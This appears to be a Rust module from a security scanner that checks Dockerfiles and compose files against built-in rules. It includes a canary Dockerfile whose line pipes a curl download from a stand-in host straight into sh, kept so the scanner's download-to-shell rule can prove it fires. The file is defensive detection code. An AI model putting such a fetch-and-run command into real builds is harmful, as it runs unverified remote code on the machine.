//! Looks into one file: tells what it is, reads it, tries the rules.

use std::borrow::Cow;

use agent_contract::RepoPath;
use finding::{Canary, FileScanner, Look, Source};

use crate::{
    compose, dockerfile, judge,
    kind::{self, Family, Promise},
    rule::{RuleError, Rules},
    subject,
};

/// No honest container file or compose file is larger.
const BYTES_MAX: usize = 256 << 10;
/// What rules judge in one file: every rule tries every one.
const ITEMS_MAX: usize = 20_000;

/// The gate for container files and compose files, one file at a time.
pub struct Files {
    rules: Rules,
}

impl Files {
    /// A scanner that goes by the built-in rules.
    pub fn embedded() -> Result<Self, RuleError> {
        Ok(Self::new(Rules::embedded()?))
    }

    /// A scanner that goes by these rules.
    pub fn new(rules: Rules) -> Self {
        Self { rules }
    }
}

impl FileScanner for Files {
    fn passes_over(&self, path: &RepoPath) -> Option<&'static str> {
        kind::promise(path).err()
    }

    fn look(&self, path: &RepoPath, bytes: &[u8]) -> Look {
        look(&self.rules, path, bytes)
    }

    fn canary(&self) -> Canary {
        Canary {
            path: RepoPath::parse("canary/Dockerfile").expect("a plain name"),
            bytes: b"FROM canary:1\nRUN curl https://canary.example/install | sh\n".to_vec(),
            rule: "container/download-to-shell".to_owned(),
        }
    }

    fn sources(&self) -> Vec<Source> {
        self.rules.sources()
    }
}

pub(crate) fn look(rules: &Rules, path: &RepoPath, bytes: &[u8]) -> Look {
    let promise = match kind::promise(path) {
        Ok(promise) => promise,
        Err(reason) => return Look::Skipped(reason),
    };
    let (family, certain) = match promise {
        Promise::Certain(family) => (family, true),
        Promise::Perhaps(family) => (family, false),
    };
    if bytes.len() > BYTES_MAX {
        return Look::Broken(finding::too_large(BYTES_MAX));
    }
    let text = match text(family, bytes) {
        Ok(text) => text,
        Err(_) if !certain => return Look::Skipped(kind::FOREIGN),
        Err(reason) => return Look::Broken(reason),
    };
    let text = text.as_ref();
    if !certain && !begins_like_one(text) {
        return Look::Skipped(kind::FOREIGN);
    }
    if !certain && (kind::is_template(path) || is_template(text)) {
        return Look::Skipped(kind::TEMPLATE);
    }
    let items = match family {
        Family::Dockerfile => dockerfile::parse(text).and_then(|read| subject::of_dockerfile(&read)),
        Family::Compose => compose::parse(text).and_then(|read| subject::of_compose(&read, path)),
    };
    match items {
        Ok(items) if items.len() > ITEMS_MAX => {
            Look::Broken(format!("has more than {ITEMS_MAX} things to judge: part it into several"))
        }
        Ok(items) => Look::Scanned(judge::judge(rules, family, &items, path)),
        Err(reason) => Look::Broken(reason),
    }
}

/// Builders know UTF-8 only; a compose file may be in anything that YAML may be in.
fn text(family: Family, bytes: &[u8]) -> Result<Cow<'_, str>, String> {
    if family == Family::Compose {
        return yaml::text(bytes);
    }
    let text = std::str::from_utf8(bytes).map_err(|error| format!("is not UTF-8: {error}"))?;
    Ok(Cow::Borrowed(text.strip_prefix('\u{feff}').unwrap_or(text)))
}

/// The first line that is no comment is one that a Dockerfile begins with, or a template's.
fn begins_like_one(text: &str) -> bool {
    let mut lines = text.lines().map(str::trim).filter(|line| !line.is_empty() && !line.starts_with('#'));
    let first = lines.next().unwrap_or("");
    let word = first.split_whitespace().next().unwrap_or("");
    ["FROM", "ARG"].contains(&word.to_ascii_uppercase().as_str()) || is_template(first)
}

fn is_template(text: &str) -> bool {
    ["{{", "{%", "<%", "%%", "@@"].iter().any(|mark| text.contains(mark))
}
